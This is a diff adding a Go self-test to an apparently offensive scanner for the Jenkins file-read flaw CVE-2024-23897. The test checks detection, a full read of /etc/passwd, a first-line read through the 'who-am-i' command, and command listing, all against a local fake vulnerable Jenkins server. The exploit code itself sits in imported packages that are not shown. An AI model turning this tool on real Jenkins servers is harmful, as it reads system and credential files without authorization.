@@ -0,0 +1,96 @@
+package runner
+
+import (
+	"context"
+	"fmt"
+	"github.com/fatih/color"
+	"github.com/projectdiscovery/gologger"
+	"github.com/wjlin0/CVE-2024-23897/pkg/fakejenkins"
+	"github.com/wjlin0/CVE-2024-23897/pkg/input"
+	"github.com/wjlin0/CVE-2024-23897/pkg/scanner"
+	"github.com/wjlin0/CVE-2024-23897/pkg/types"
+	"os"
+	"strings"
+)
+
+// selfTestCapability is a single capability exercised against the fake Jenkins fixture
+type selfTestCapability struct {
+	name string
+	run  func(s *scanner.Scanner, target *input.Target) error
+}
+
+var selfTestCapabilities = []selfTestCapability{
+	{name: "detection", run: func(s *scanner.Scanner, target *input.Target) error {
+		if vul, _, _ := s.Check(context.Background(), target); !vul {
+			return fmt.Errorf("vulnerable fixture was not detected")
+		}
+		return nil
+	}},
+	{name: "full-read", run: func(s *scanner.Scanner, target *input.Target) error {
+		_, full, result := s.Check(context.Background(), target)
+		if !full || result == nil {
+			return fmt.Errorf("full file read was not detected")
+		}
+		read := s.ReadFile(context.Background(), target, result.Response, "/etc/passwd")
+		if read == nil || !strings.Contains(read.Response, "jenkins:x:1000:1000:") {
+			return fmt.Errorf("full contents of /etc/passwd were not read via %s", result.Response)
+		}
+		return nil
+	}},
+	{name: "first-line-read", run: func(s *scanner.Scanner, target *input.Target) error {
+		read := s.ReadFile(context.Background(), target, "who-am-i", "/etc/passwd")
+		if read == nil || !strings.Contains(read.Response, "root:x:0:0:") {
+			return fmt.Errorf("first line of /etc/passwd was not read via who-am-i")
+		}
+		return nil
+	}},
+	{name: "list-available-commands", run: func(s *scanner.Scanner, target *input.Target) error {
+		if commands, _ := s.ListAvailableCommands(context.Background(), target); len(commands) == 0 {
+			return fmt.Errorf("no available commands were listed")
+		}
+		return nil
+	}},
+}
+
+// RunSelfTest runs the full detection and read pipeline against an in-process
+// fake vulnerable Jenkins over both http and https and reports every capability
+func (r *Runner) RunSelfTest() error {
+	r.displaySelfTestSettings()
+
+	servers := map[string]*fakejenkins.Server{
+		"http":  fakejenkins.NewServer(fakejenkins.DefaultOptions()),
+		"https": fakejenkins.NewTLSServer(fakejenkins.DefaultOptions()),
+	}
+	failed := 0
+	for _, transport := range []string{"http", "https"} {
+		server := servers[transport]
+		target := input.NewTarget(server.URL)
+		for _, capability := range selfTestCapabilities {
+			if err := capability.run(r.scanner, target); err != nil {
+				failed++
+				gologger.Error().Label("selftest").Msgf("%s %s: %s (%s)", transport, capability.name, color.HiRedString("fail"), err)
+				continue
+			}
+			gologger.Info().Label("selftest").Msgf("%s %s: %s", transport, capability.name, color.HiGreenString("pass"))
+		}
+		server.Close()
+	}
+	if failed > 0 {
+		return fmt.Errorf("%d self-test checks failed, check the network settings above", failed)
+	}
+	gologger.Info().Label("selftest").Msgf("all self-test checks passed")
+	return nil
+}
+
+func (r *Runner) displaySelfTestSettings() {
+	proxy := "none"
+	switch {
+	case types.ProxyURL != "":
+		proxy = types.ProxyURL
+	case os.Getenv("HTTP_PROXY") != "" || os.Getenv("HTTPS_PROXY") != "":
+		proxy = "from environment (HTTP_PROXY/HTTPS_PROXY)"
+	}
+	gologger.Info().Label("selftest").Msgf("proxy: %s", proxy)
+	gologger.Info().Label("selftest").Msgf("tls: certificate verification disabled")
+	gologger.Info().Label("selftest").Msgf("timeout: %ds, custom headers: %d", r.options.Timeout, len(types.Headers))
+}